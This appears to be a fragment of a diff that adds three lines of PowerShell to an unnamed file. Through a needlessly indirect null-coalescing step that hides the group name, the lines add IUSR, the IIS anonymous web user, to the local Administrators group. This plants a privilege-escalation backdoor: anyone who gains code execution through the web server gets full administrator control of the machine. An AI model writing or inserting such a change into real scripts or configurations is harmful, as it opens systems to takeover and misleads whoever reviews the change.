@@ -1,0 +1,3 @@
+$feature = $null
+$name = $feature ?? 'Administrators'
+Add-LocalGroupMember -Group $name -Member IUSR
